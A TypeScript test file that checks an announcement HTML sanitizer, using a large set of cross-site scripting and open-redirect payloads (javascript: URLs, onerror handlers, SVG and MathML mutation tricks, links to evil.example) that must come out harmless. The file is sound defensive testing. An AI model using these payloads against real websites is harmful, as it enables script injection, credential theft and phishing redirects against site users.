import { JSDOM } from 'jsdom';
import { describe, expect, test } from 'vitest';
import { announcementHtml } from './announcement-html.ts';

test.each([
  { why: 'text', written: 'Hello', shown: 'Hello' },
  { why: 'marks', written: '<b>a</b><i>b</i><br>c', shown: '<b>a</b><i>b</i><br />c' },
  { why: 'upper case', written: '<B>a</B>', shown: '<b>a</b>' },
  {
    why: 'an own page',
    written: '<a href="/rl/event/3?x=1#top">x</a>',
    shown: '<a href="/rl/event/3?x=1#top">x</a>',
  },
  {
    why: 'an own picture',
    written: '<img src="/games/rl.svg">',
    shown: '<img src="/games/rl.svg" alt="" />',
  },
  {
    why: 'a picture told in words',
    written: '<img src="/a.png" alt="A cup">',
    shown: '<img src="/a.png" alt="A cup" />',
  },
  { why: 'signs', written: '3 < 4 & "5"', shown: '3 &lt; 4 &amp; "5"' },
  { why: 'another tag keeps its words', written: '<p>a <u>b</u></p>', shown: 'a b' },
  { why: 'an unfinished mark is finished', written: '<b>a', shown: '<b>a</b>' },
  { why: 'a link to nowhere keeps its words', written: '<a>a</a>', shown: 'a' },
  { why: 'only blanks', written: ' <br> ', shown: '' },
])('an announcement shows $why', ({ written, shown }) => {
  expect(announcementHtml(written)).toBe(shown);
});

const scripts = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\0script:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:https://callshot.example/1',
  'file:///etc/passwd',
  'mailto:a@b.example',
  'https://evil.example',
  'HTTPS://evil.example',
  'https:evil.example',
  '//evil.example',
  '///evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '\\/evil.example',
  '/\t/evil.example',
  '/\n/evil.example',
  '/\r/evil.example',
  '/%0a/evil.example/..//x\\',
  '/.//evil.example',
  '/..//evil.example',
  '/a/..//evil.example',
  '/&sol;evil.example',
  '/&#47;evil.example',
  '/&#x2f;evil.example',
  '/&bsol;evil.example',
  '&sol;&sol;evil.example',
  ' //evil.example',
  'evil.html',
  './evil.html',
  '../evil.html',
  '?x=1',
  '#x',
  '',
];

const marks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/src=//evil.example>',
  '<script',
  '<script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a" onerror=alert(1)>',
  '<img src="/a"onerror=alert(1)>',
  '<img/src="/a"/onload=alert(1)>',
  '<img src="/a" srcset="//evil.example/x 1x">',
  '<img src="/a" style="background:url(//evil.example)">',
  '<img src="/a" usemap="#x" id="x" class="y" name="getElementById">',
  '<img """><script>alert(1)</script>">',
  '<img src="/a" alt="&quot; onerror=alert(1) x=&quot;">',
  '<img src="/a" alt=\'"><script>alert(1)</script>\'>',
  '<a href="/a" onclick=alert(1)>x</a>',
  '<a href="/a" target=_blank ping="//evil.example" rel=x download>x</a>',
  '<a href="/a" style="position:fixed;inset:0">x</a>',
  '<a href="/a" href="javascript:alert(1)">x</a>',
  '<a href=javascript:alert(1) href="/a">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="/a&quot; onclick=&quot;alert(1)">x</a>',
  '<a href=\'/a" onclick="alert(1)\'>x</a>',
  '<b onmouseover=alert(1)>x</b>',
  '<b style="color:expression(alert(1))">x</b>',
  '<i class=x id=y data-x=1 aria-hidden=true>x</i>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x>#x">',
  '<svg><desc><b>x</b></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<style>@import "//evil.example"</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<style></style><img src=x onerror=alert(1)>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '</textarea><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input type=submit></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<isindex action=javascript:alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html onload=alert(1)>',
  '<frameset onload=alert(1)>',
  '<table background=javascript:alert(1)>',
  '<marquee onstart=alert(1)>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<keygen autofocus onfocus=alert(1)>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<%<img src=x onerror=alert(1)>%>',
  '</<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<a href="/a',
  '<b <script>alert(1)</script>>',
  '<b/><script>alert(1)</script>',
  '<b\0><img\0 src=x onerror=alert(1)>',
  '<\0script>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<b>&lt;img src=x onerror=alert(1)&gt;</b>',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<img src="/a" alt="`onerror=alert(1)">',
  '<a href="/api/auth/logout" onclick>x</a>',
  '<b><a href="/a"><b><a href="javascript:alert(1)">x</a></b></a></b>',
  '<p><b></p><img src=x onerror=alert(1)></b>',
  '<a id=x><a id=x name=y href=/a>',
  '<br onclick=alert(1)><br/onclick=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<noframes><img src=x onerror=alert(1)></noframes>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<image src=x onerror=alert(1)>',
  `${'<b>'.repeat(1000)}x<img src=x onerror=alert(1)>`,
  `${'<math><mtext>'.repeat(200)}<img src=x onerror=alert(1)>`,
  `${'<table><tr><td><svg><desc>'.repeat(60)}<img src=x onerror=alert(1)>`,
];

const attacks = [
  ...marks,
  ...scripts.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<a href='${address}'>x</a>`,
    `<img src="${address}">`,
    `<b><img alt="x" src="${address}"></b>`,
  ]),
];

const origin = 'https://callshot.example';
const allowed: Readonly<Record<string, readonly string[]>> = {
  B: [],
  I: [],
  BR: [],
  A: ['href'],
  IMG: ['src', 'alt'],
};

/** What a browser makes of it: every element and attribute is an allowed one, every address is own. */
function expectHarmless(html: string): void {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`, { url: origin }).window;
  for (const element of document.body.querySelectorAll('*')) {
    const attributes = allowed[element.tagName];
    expect(attributes, `${element.tagName} in ${html}`).toBeDefined();
    for (const { name, value } of element.attributes) {
      expect(attributes, `${name} in ${html}`).toContain(name);
      if (name === 'alt') continue;
      expect(value.startsWith('/'), value).toBe(true);
      expect(new URL(value, `${origin}/deep/page`).origin, value).toBe(origin);
    }
  }
  expect(document.head.children, html).toHaveLength(0);
}

describe('an attack', () => {
  test.each(attacks.map((written) => ({ written })))(
    'leaves nothing of it: $written',
    ({ written }) => {
      const html = announcementHtml(written);
      expectHarmless(html);
      // Cleaned again, as the browser does, it is still the same.
      expect(announcementHtml(html)).toBe(html);
    },
  );

  test.each(['<b>', '<a href="/a">', '<!--', '&', '<', '<img src="/a" alt="', '</b>'])(
    'that is huge leaves nothing either: %s',
    (part) => {
      const html = announcementHtml(part.repeat(200_000 / part.length));
      expect(announcementHtml(html)).toBe(html);
    },
  );
});
